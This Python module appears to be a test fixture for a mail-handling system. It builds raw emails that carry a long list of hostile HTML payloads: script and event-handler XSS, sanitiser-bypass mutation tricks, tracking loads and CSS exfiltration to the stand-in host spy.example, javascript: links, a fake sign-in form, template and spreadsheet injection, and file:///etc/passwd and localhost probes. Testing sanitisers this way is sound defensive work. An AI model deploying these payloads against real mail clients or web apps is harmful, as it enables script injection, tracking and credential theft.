"""Mails that want to run something, fetch something, or lead the reader away by themselves."""

# A payload stays on its line, however long.
# ruff: noqa: E501

import base64

RUN = "alert(1);new Image().src='https://spy.example/ran';top.location='https://spy.example/gone'"
SPY = "https://spy.example/seen"
_SVG = base64.b64encode(
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>".encode()
).decode()
_PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

# Each is tried as the HTML of a mail, and as its subject, its sender's name and a file's name.
PAYLOADS = (
    # Scripts, plain and in disguise
    f"<script>{RUN}</script>",
    "<ScRiPt src=//spy.example/x.js></sCrIpT>",
    f"<script/x>{RUN}</script/x>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>/*<style>*/{RUN}</script></style>",
    f"\x00<scr\x00ipt>{RUN}</script>",
    "<script type=module>import 'https://spy.example/m.js'</script>",
    # Handlers
    f'<img src=x onerror="{RUN}">',
    f'<img src=x onerror\x0b="{RUN}">',
    f'<img/src="x"/onerror="{RUN}">',
    f'<IMG """><IMG SRC=x OnErRoR="{RUN}">',
    f'<body onload="{RUN}">',
    f'<svg onload="{RUN}">',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><set attributeName=href to="javascript:{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<div tabindex=1 autofocus onfocus="{RUN}">x</div>',
    f'<video autoplay onloadstart="{RUN}"><source src=x></video>',
    f'<audio src=x onerror="{RUN}">',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<p style="animation:x 1s" onanimationstart="{RUN}">x</p><style>@keyframes x{{}}</style>',
    f'<p onpointerrawupdate="{RUN}" onmouseover="{RUN}" onscroll="{RUN}">x</p>',
    f'<div popover id=p onbeforetoggle="{RUN}">x</div><button popovertarget=p>x</button>',
    # What is made anew by reading it twice
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    f'<svg><desc><iframe srcdoc="<script>{RUN}</script>"></desc></svg>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"></annotation-xml></math>',
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>',
    f'<title><a title="</title><img src=x onerror={RUN}>"></a></title>',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<style><!--</style><img src=x onerror="{RUN}">--></style>',
    f'<!--><img src=x onerror="{RUN}">-->',
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f'<![CDATA[<img src=x onerror="{RUN}">]]>',
    f'<template><img src=x onerror="{RUN}"></template>',
    f'<select><template><img src=x onerror="{RUN}"></template></select>',
    f'<p title="\'><img src=x onerror={RUN}>">quote</p>',
    f'<a href="https://shop.example/&quot;><img src=x onerror={RUN}>">link</a>',
    # Frames, objects, pages in pages
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="{SPY}"></iframe>',
    f'<object data="data:text/html;base64,{_PAGE}"></object>',
    f'<object data="{SPY}"><embed src="{SPY}"></object>',
    f'<embed src="data:image/svg+xml;base64,{_SVG}">',
    f'<frameset><frame src="{SPY}"></frameset>',
    f'<portal src="{SPY}"></portal><applet code="{SPY}"></applet>',
    # The whole page
    f'<meta http-equiv="refresh" content="0;url={SPY}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<base href="https://spy.example/"><img src="a.gif"><a href="b">x</a>',
    f'<link rel=stylesheet href="{SPY}.css">',
    f'<link rel=prefetch href="{SPY}"><link rel=dns-prefetch href="//spy.example">',
    f'<link rel=preload as=image href="{SPY}"><link rel=icon href="{SPY}">',
    # What loads
    f'<img src="{SPY}">',
    f'<img srcset="{SPY} 1x" sizes=1px>',
    f'<picture><source srcset="{SPY}"><img src="{SPY}"></picture>',
    f'<img src="//spy.example/a"><input type=image src="{SPY}">',
    f'<img lowsrc="{SPY}" dynsrc="{SPY}" longdesc="{SPY}">',
    f'<table background="{SPY}"><td background="{SPY}">x</table>',
    f'<p style="background:url({SPY})">x</p>',
    f'<p style="background:\\75\\72\\6c({SPY})">x</p>',
    f'<p style="list-style:url({SPY});display:list-item;cursor:url({SPY}),auto">x</p>',
    f"<p style=\"background:image-set('{SPY}' 1x);content:url({SPY})\">x</p>",
    f'<style>@import "{SPY}"; @import url({SPY});</style>',
    f"<style>@font-face{{font-family:x;src:url({SPY})}} p{{font-family:x}}</style><p>x</p>",
    f"<style>p{{background:url({SPY})}} p::before{{content:url({SPY})}}</style><p>x</p>",
    f'<style>a[href^="h"]{{background:u\\72l({SPY})}}</style><a href="https://a.example">x</a>',
    f'<svg><image href="{SPY}"/><use href="{SPY}#x"/><feImage href="{SPY}"/></svg>',
    f'<video poster="{SPY}" src="{SPY}"><track src="{SPY}"></video><audio src="{SPY}" autoplay>',
    '<img src="file:///etc/passwd"><img src="http://127.0.0.1:1/x"><img src="php://filter/x">',
    f'<a ping="{SPY}" href="https://a.example" download>x</a>',
    f'<math href="{SPY}" xlink:href="{SPY}"><mi xlink:href="javascript:{RUN}">x</mi></math>',
    # What leads away
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<a href=" &#1;java&#9;script:{RUN}">x</a>',
    f'<a href="data:text/html;base64,{_PAGE}">x</a>',
    f'<a href="vbscript:{RUN}">x</a><a href="//spy.example">y</a>',
    f'<form action="{SPY}"><input name=password><button autofocus>Sign in</button></form>',
    f'<form id=f action="javascript:{RUN}"></form><button form=f formaction="{SPY}">x</button>',
    # Names that stand in the way of ours
    "<img name=documentElement><img name=body><form name=getElementById><a id=parent>x</a>",
    '<div style="position:fixed;inset:0;z-index:9999;height:100vh">over everything</div>',
    # Against templates and spreadsheets
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    '=HYPERLINK("https://spy.example")\u202egpj.exe',
)


def mail(number: int, payload: str) -> bytes:
    """A raw mail that carries the payload everywhere a sender can write."""
    line = " ".join(payload.replace("\x00", "").split())
    quoted = line.replace("\\", "").replace('"', "'")
    return "\r\n".join(
        [
            f'From: "{quoted}" <hostile{number}@mail.example>',
            "To: support@dukkan.example",
            f"Subject: {number} {line}",
            f"Message-ID: <hostile{number}@mail.example>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="b"',
            "",
            "--b",
            "Content-Type: text/html; charset=utf-8",
            "",
            f"<p>Where is my order 77{number}?</p>{payload}",
            "--b",
            "Content-Type: image/svg+xml",
            f'Content-Disposition: attachment; filename="{quoted}.svg"',
            "",
            f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>",
            "--b--",
            "",
        ]
    ).encode("utf-8", "surrogatepass")
